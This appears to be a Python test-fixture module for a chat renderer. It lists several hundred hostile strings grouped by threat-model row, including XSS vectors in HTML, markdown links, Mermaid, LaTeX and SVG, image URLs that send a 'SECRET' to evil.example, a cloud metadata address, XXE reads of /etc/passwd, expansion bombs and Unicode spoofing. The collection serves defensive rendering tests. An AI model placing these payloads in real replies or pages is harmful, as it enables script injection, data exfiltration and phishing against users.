"""What a hostile reply may hold, as plain data: one text each, by the row of the threat model it belongs to.

``where`` is the place the text is made for; every text is tried in every place all the same. A drawn page in which one
of them runs, asks another host for something or changes the page around it is broken.
"""

from dataclasses import dataclass
from enum import StrEnum


class Where(StrEnum):
    TEXT = "text"  # content and think
    MERMAID = "mermaid"
    LATEX = "latex"
    CODE = "code"
    LANGUAGE = "language"
    IMAGE = "image"
    AUDIO = "audio"
    VIDEO = "video"
    TABLE = "table"
    CHART = "chart"
    ID = "id"
    TITLE = "title"
    ERROR = "error"


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    row: str
    where: Where
    text: str


def _group(row: str, where: Where, *texts: str) -> tuple[Attack, ...]:
    return tuple(Attack(f"{row}-{where}-{number}", row, where, text) for number, text in enumerate(texts, 1))


MARKUP = _group(
    "S-60",
    Where.TEXT,
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script",
    "<<script>alert(1)//<</script>",
    '<img src=x onerror="alert(1)">',
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x:x onerror\x0c=\x0calert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'></use></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<frameset onload=alert(1)><frame src=//evil.example>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x archive=//evil.example/x.jar>",
    "<details ontoggle=alert(1) open>x</details>",
    "<form action=https://evil.example/><input name=password autofocus onfocus=alert(1)><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/p.png)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<div style=\"background:url('https://evil.example/p.png')\">x</div>",
    "<div style='position:fixed;inset:0'>Your session has ended</div>",
    "<body onload=alert(1)>",
    "<html><head><title>x</title></head>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/p.png>",
    "<audio src=https://evil.example/a.mp3 autoplay onloadstart=alert(1)>",
    "<input type=image src=https://evil.example/p.png>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<dialog open>Sign in again</dialog>",
    "<a id=config name=config href=https://evil.example>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "</article></div></pre></code><script>alert(1)</script>",
    "</pre></figure><img src=x onerror=alert(1)>",
    "</summary></details><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~html onload=alert(1)\n<svg onload=alert(1)>\n~~~",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "<p slot=x part=y contenteditable autofocus onfocus=alert(1)>x</p>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | `<svg onload=alert(1)>` |",
    "- [ ] <input type=checkbox onclick=alert(1)>\n- [x] <script>alert(1)</script>",
    "x[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script> {onclick=alert(1)}",
    "> <iframe src=javascript:alert(1)>\n>\n> - <base href=//evil.example>",
)

LINKS = _group(
    "S-61",
    Where.TEXT,
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#x0A;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x1;javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://example.com/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](filesystem:https://example.com/x)",
    "[x](ms-msdt:/id)",
    "[x](view-source:https://example.com)",
    "[x](intent://evil#Intent;end)",
    "[x](tel:+1)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example\\share)",
    "[x](https:\\\\evil.example)",
    "[x](https:///evil.example)",
    "[https://bank.example](https://evil.example/)",
    "[https://bank.example/](https://bank.example@evil.example/)",
    "[x](https://bank.example%2f@evil.example/)",
    "[x](https://evil.example\\@bank.example/)",
    "[x](https://b\u0430nk.example/)",
    '[x](https://evil.example/ "onmouseover=alert(1)")',
    '[x](https://evil.example/?" onmouseover="alert(1))',
    "[x](https://evil.example/'onmouseover='alert(1))",
    "[\u202eelpmaxe.knab](https://evil.example/)",
    "<javascript:alert(1)>",
    '<https://evil.example/">',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: <data:text/html,x> 'onclick'",
    "[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)",
    "https://evil.example/<script>alert(1)</script>",
    'https://evil.example/"onmouseover=alert(1)',
    "mailto:a@b.example?body=<script>alert(1)</script>",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[x](#location=javascript:alert(1))",
    "[x](?q=1) [y](/admin/delete) [z](../x)",
)

REMOTE = (
    *_group(
        "S-62",
        Where.TEXT,
        "![a](https://evil.example/p.png?q=SECRET)",
        "![](//evil.example/p.png)",
        "![](/\\evil.example/p.png)",
        "![](\\\\evil.example\\p.png)",
        "![a][r]\n\n[r]: https://evil.example/p.png",
        "![r]\n\n[r]: //evil.example/p.png 'title'",
        "![a](http://169.254.169.254/latest/meta-data/)",
        "![a](HTTPS://EVIL.EXAMPLE/P.PNG)",
        "![a](https://evil.example/p.png 'x\" onerror=\"alert(1)')",
        '![" onerror="alert(1)](https://evil.example/p.png)',
        "![![b](https://evil.example/b.png)](https://evil.example/a.png)",
        "![a](ftp://evil.example/p.png)",
        "![a](ws://evil.example/)",
        "![a](javascript:alert(1))",
        "![a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![a]({{image:https://evil.example/p.png}})",
        "<img srcset='https://evil.example/p.png 2x' src=x>",
        "<picture><source srcset=https://evil.example/p.png><img></picture>",
        "<table background=https://evil.example/p.png><tr><td>x</table>",
        "<div style=background-image:url(//evil.example/p.png)>x</div>",
        "<a ping=https://evil.example/ href=https://example.com>x</a>",
        "<blockquote cite=https://evil.example/>x</blockquote>",
    ),
    *_group(
        "S-62",
        Where.IMAGE,
        "https://evil.example/p.png?q=SECRET",
        "//evil.example/p.png",
        'https://evil.example/p.png" onerror="alert(1)',
        "https://evil.example/p.png' onerror='alert(1)",
        "https://user:secret@evil.example/p.png",
        "https://evil.example\\@example.com/p.png",
        "javascript:alert(1)",
        'x" onerror="alert(1)',
        "../../admin/delete",
    ),
    *_group("S-62", Where.AUDIO, "https://evil.example/a.mp3", "data:text/html,<script>alert(1)</script>"),
    *_group("S-62", Where.VIDEO, "https://evil.example/v.mp4", 'x" poster="https://evil.example/p.png'),
)

DIAGRAMS = _group(
    "S-63",
    Where.MERMAID,
    "sequenceDiagram\n participant A as X<img src=x onerror=alert(1)>$$\\text{a}$$",
    'graph TD\n A["<img src=x onerror=alert(1)>"]-->B',
    "graph TD\n A[\"<a href='javascript:alert(1)'>x</a>\"]-->B",
    'graph TD\n A-->B\n click A href "javascript:alert(1)" "x"',
    "graph TD\n A-->B\n click A call alert(1)",
    'graph TD; A-->B; click A "javascript:alert(1)"',
    '%%{init:{"securityLevel":"loose"}}%%\ngraph TD\nA-->B',
    "%%{\n  init: {'themeCSS': '*{background:url(https://evil.example/)}'}\n}%%\ngraph TD\nA-->B",
    "%%{in%%{init:{}}%%it: {'securityLevel':'loose'}}%%\ngraph TD\nA-->B",
    "%%{init: {'securityLevel':'loose'\ngraph TD\nA-->B",
    "---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA-->B",
    "architecture-beta\n service x(<img src=x onerror=alert(1)>)[y]",
    'classDiagram\n class A\n link A "javascript:alert(1)"\n callback A "alert"',
    'sequenceDiagram\n link Alice: x @ javascript:alert(1)\n links Alice: {"x": "javascript:alert(1)"}',
    "graph TD\n A-->B\n style A fill:url(https://evil.example/)",
    "graph TD\n classDef x fill:#fff;}</style><script>alert(1)</script>",
    "gantt\n title </pre><script>alert(1)</script>",
    "mindmap\n root((<svg onload=alert(1)>))",
    "</pre><script>alert(1)</script>",
)

FORMULAS = (
    *_group(
        "S-64",
        Where.LATEX,
        "\\href{javascript:alert(1)}{x}",
        "\\url{javascript:alert(1)}",
        "\\includegraphics{https://evil.example/p.png}",
        "\\htmlData{onclick=alert(1)}{x}",
        "\\htmlStyle{background:url(https://evil.example)}{x}",
        "\\htmlClass{x}{y}\\htmlId{z}{y}",
        "\\style{background:url(https://evil.example)}{x}",
        '\\class{a" onclick="alert(1)}{x}',
        "\\cssId{x}{y}",
        "\\def\\a{\\a\\a}\\a",
        "\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\a}\\a",
        "\\text{<img src=x onerror=alert(1)>}",
        "\\text{</mtext></math><script>alert(1)</script>}",
        "\\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
        '\\color{red" onclick="alert(1)}x',
        "\\color{url(https://evil.example)}x",
        "\\rule{999999em}{999999em}",
        "\\hspace{999999em}x",
        "\\unicode{x3c}script\\unicode{x3e}",
        "\\unicode{<script>}",
        "x^{" * 200 + "x" + "}" * 200,
        "\\begin{matrix}" * 60,
        "\\left(" * 400 + "\\right)" * 400,
        "\\input{/etc/passwd}",
        "x₁₂³⁴<script>",
        "\\operatorname{<svg onload=alert(1)>}",
        "</math><img src=x onerror=alert(1)>",
    ),
    *_group(
        "S-64",
        Where.TEXT,
        "$\\href{javascript:alert(1)}{x}$",
        "$$\\text{<img src=x onerror=alert(1)>}$$",
        "$</span><script>alert(1)</script>$",
        "$$\n\\def\\a{\\a\\a}\\a\n$$",
        '$\\class{x}{y}$ and $x" onclick="alert(1)$',
    ),
)

CODE = (
    *_group(
        "S-65",
        Where.LANGUAGE,
        '"><script>alert(1)</script>',
        'python" onclick="alert(1)',
        "python onclick=alert(1)",
        "language-python x-admin hidden",
        "../../../etc/passwd",
        "pythön\u202e",
        "mermaid",
        "p" * 5000,
    ),
    *_group(
        "S-65",
        Where.CODE,
        "</code></pre><script>alert(1)</script>",
        "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\\x1b[2J\x1b[31mred",
        "if admin:\u202e \u2066# check\u2069 \u2066return\u2069",
        "acc\u200bess = ad\u00admin\ufeff\u2060\u200d\u3164",
        "ignore\U000e0069\U000e0067\U000e006e this",
        "\r<script>alert(1)</script>\x0b\x0c\x85\u2028\u2029",
        "'''<img src=x onerror=alert(1)>'''",
        "/* {{image:x}} --> */",
    ),
)

SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
    "<svg><image href='https://evil.example/p.png'/></svg>",
    "<svg><foreignObject><iframe src='https://evil.example'/></foreignObject></svg>",
    "<svg><a href='javascript:alert(1)'><rect width='9' height='9'/></a></svg>",
    "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><svg>&b;</svg>",
    "<svg>" + "<g id='a'><use href='#b'/></g>" * 40 + "</svg>",
    "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
)
PICTURES = (
    *_group("S-66", Where.IMAGE, *SVG, "data:image/svg+xml;utf8,<svg onload=alert(1)>",
            "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
            "data:image/svg+xml,%3Csvg onload='alert(1)'%3E%3C/svg%3E"),
    *_group("S-66", Where.TEXT, "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)", SVG[0]),
    *_group("S-67", Where.IMAGE,
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAw1AAAMNQCAYAAAA=",
            "data:image/jpeg;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA=",
            "data:image/png;base64,%%%", "data:,x", "data:image/png", "data:;base64,iVBORw0KGgo=",
            "data:image/png,<script>alert(1)</script>",
            "data:image/png;base64,iVBORw0KGgo=\" onerror=\"alert(1)",
            "data:image/x-icon;base64,AAABAAEAEBA=", "data:application/pdf;base64,JVBERi0="),
    *_group("S-67", Where.AUDIO, "data:audio/mpeg;base64,PHNjcmlwdD4=", "data:video/mp4;base64,AAAAGGZ0eXBtcDQy"),
    *_group("S-67", Where.VIDEO, "data:video/webm;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>"),
)  # fmt: skip

PLACEHOLDERS = (
    *_group("S-68", Where.CODE, "{{image:y}}", "{{code:x}}", "{{mermaid:y}}<script>alert(1)</script>"),
    *_group("S-68", Where.TEXT,
            "{{code:<script>alert(1)</script>}}", "{{image:\" onerror=\"alert(1)}}", "{{code:../../x}}",
            "{{script:alert(1)}}", "{{code:x}}{{code:x}}{{code:x}}", "{{ code : none }}", "{{code:{{code:x}}}}",
            "`{{code:x}}` {{code:`x`}}", "[{{mermaid:m}}](javascript:alert(1))", "# {{table:t}}",
            "**{{code:no}}**", "{{image:\u202eid}}", "{{constructor:__proto__}}"),
    *_group("S-68", Where.ID, "<script>alert(1)</script>", "x\" onclick=\"alert(1)", "__proto__", "\u202eid", "a}}b",
            "fn-c00000000-1", "x' id='y", "a b\tc"),
    *_group("S-68", Where.TABLE,
            "a,b\n<script>alert(1)</script>,{{code:x}}", "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
            "{\"columns\": [\"<svg onload=alert(1)>\"], \"rows\": [[\"{{image:y}}\"]]}"),
    *_group("S-68", Where.CHART,
            "{\"type\":\"bar\",\"data\":{\"labels\":[\"<script>alert(1)</script>\"],\"datasets\":[{\"data\":[1]}]}}",
            "{\"type\":\"bar\",\"data\":{\"datasets\":[{\"label\":\"' onclick='alert(1)\",\"data\":[\"<b>\"]}]}}",
            "{\"type\":\"bar\",\"data\":{\"datasets\":[{\"data\":[1],\"pointStyle\":\"https://evil.example/p.png\"}]},"
            "\"options\":{\"onClick\":\"alert(1)\",\"plugins\":{\"title\":{\"text\":\"</figure><script>x</script>\"}}}}"),
)  # fmt: skip

OWN_TEXTS = (
    *_group("S-69", Where.TITLE, "<script>alert(1)</script>", "\" onload=\"alert(1)", "</figcaption><iframe src=//e>",
            "\u202efdp.exe", "[x](javascript:alert(1))", "{{image:y}}"),
    *_group("S-69", Where.ERROR, "{\"content\": <script>alert(1)</script>", "</pre><img src=x onerror=alert(1)>",
            "{\"content\"\x1b[2J\u202e: 1", "\ud800<svg onload=alert(1)>"),
)  # fmt: skip

ATTACKS: tuple[Attack, ...] = (
    *MARKUP,
    *LINKS,
    *REMOTE,
    *DIAGRAMS,
    *FORMULAS,
    *CODE,
    *PICTURES,
    *PLACEHOLDERS,
    *OWN_TEXTS,
)
